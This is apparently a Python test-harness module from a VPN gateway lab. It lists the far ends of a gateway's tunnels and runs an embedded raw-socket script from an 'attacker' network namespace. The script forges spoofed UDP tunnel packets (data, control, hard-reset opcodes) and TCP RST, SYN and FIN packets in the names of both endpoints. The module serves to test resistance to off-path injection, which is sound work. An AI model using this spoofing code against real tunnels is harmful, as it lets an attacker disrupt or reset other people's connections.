"""Packets in the names of both ends of a tunnel, by who knows their addresses and ports, and no key."""

from __future__ import annotations

import re
import sys

from causeway_lab.world import namespaces
from causeway_wire.observed import Transport

DOOR = 6180
_FORGE = """
import ipaddress, os, random, socket, struct, sys, time
transport, own, port, far, to = sys.argv[1:]
source, target = ipaddress.ip_address(own), ipaddress.ip_address(far)
six, number = source.version == 6, 17 if transport == "udp" else 6
ends = source.packed + target.packed
raw = socket.socket(socket.AF_INET6 if six else socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
if six:
    raw.setsockopt(socket.IPPROTO_IPV6, 36, 1)
KINDS = {
    # P_DATA_V2, P_CONTROL_V1, P_ACK_V1, hard resets of a client and a server, P_CONTROL_HARD_RESET_CLIENT_V3
    "udp": (9, 4, 5, 7, 8, 10),
    "tcp": (4, 20, 2, 17, 24),  # RST, RST ACK, SYN, FIN ACK, PSH ACK
}[transport]
for n in range(400 * len(KINDS)):
    kind = KINDS[n % len(KINDS)]
    if transport == "udp":
        body = bytes((kind << 3, 0, 0, n % 4)) + os.urandom(300)
        packet = struct.pack("!HHHH", int(port), int(to), 8 + len(body), 0) + body
        checked = 6
    else:
        numbers = random.randrange(1 << 32), random.randrange(1 << 32)
        packet = struct.pack("!HHIIBBHHH", int(port), int(to), *numbers, 0x50, kind, 1024, 0, 0)
        checked = 16
    pseudo = ends + struct.pack("!II", len(packet), number) + packet
    total = sum(struct.unpack(f"!{len(pseudo) // 2}H", pseudo))
    while total >> 16:
        total = (total >> 16) + (total & 0xFFFF)
    packet = packet[:checked] + struct.pack("!H", ~total & 0xFFFF) + packet[checked + 2:]
    if six:
        head = struct.pack("!IHBB", 6 << 28, len(packet), number, 64)
    else:
        head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(packet), n, 0x4000, 64, number, 0)
    raw.sendto(head + ends + packet, (far, 0))
    if n % 20 == 0:
        time.sleep(0.004)
"""


def flows(gateway: str, transport: Transport) -> set[tuple[str, str]]:
    """Addresses and ports of the far ends of a gateway's tunnels."""
    if transport is Transport.TCP:
        listed = namespaces.run(gateway, "ss", "-tnH", "state", "established", f"sport = :{DOOR}")
        places = [line.split()[-1].rpartition(":") for line in listed.splitlines()]
        return {(address.strip("[]").removeprefix("::ffff:"), port) for address, _, port in places}
    found = set()
    for name in ("known", "known6"):
        known = namespaces.run(gateway, "nft", "list", "set", "inet", "causeway", name)
        found |= set(re.findall(r"([0-9a-f.:]+) \. (\d+) ", known))
    return found


def forge(attacker: str, transport: Transport, *ends: tuple[str, str]) -> None:
    """Send from this machine to the second end, in the name of the first: address and port of each."""
    (own, port), (far, to) = ends
    namespaces.run(attacker, sys.executable, "-c", _FORGE, transport.value, own, port, far, to)
